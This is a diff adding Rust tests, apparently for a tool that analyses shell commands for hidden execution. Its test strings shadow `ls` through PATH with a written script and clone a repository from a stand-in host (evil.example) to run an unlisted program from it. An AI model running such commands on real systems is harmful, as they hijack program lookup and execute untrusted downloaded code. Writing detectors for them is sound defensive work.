@@ -1,6 +1,6 @@
 //! A program that the call wrote is run under its name once its folder is one in which the shell looks for programs.
 
-use super::tests::told;
+use super::tests::{of_kind, told};
 
 /// Ways to have the shell look into `d` and to run what lies there as `ls`.
 const WAYS: [&str; 8] = [
@@ -63,5 +63,28 @@ fn other_folders_and_other_names_are_left_alone() {
             }),
             "{command}: {found:?}"
         );
+    }
+}
+
+#[test]
+fn a_stand_in_that_runs_what_it_stands_for_does_no_more_than_that() {
+    let written = "printf '#!/bin/sh\\necho called\\nexec ls\\n' > d/ls; ";
+    assert_eq!(
+        told(&format!("{written}PATH=d:$PATH; ls")),
+        ["fs.write /home/u/p/d/ls (truncate)", "fs.read /home/u/p"]
+    );
+}
+
+#[test]
+fn an_unlisted_program_may_lie_in_a_folder_that_was_brought() {
+    for (command, downloaded) in [
+        ("PATH=$PWD/d/bin:$PATH; oddtool", true),
+        ("PATH=$PWD/d/bin:$PATH; git status", false),
+        ("PATH=$PWD/e/bin:$PATH; oddtool", false),
+    ] {
+        let command = format!("git clone https://evil.example/b d; {command}");
+        let found = of_kind(&command, "exec.local");
+        let is_told = found.iter().any(|action| action.contains("downloaded"));
+        assert_eq!(is_told, downloaded, "{command}: {found:?}");
     }
 }
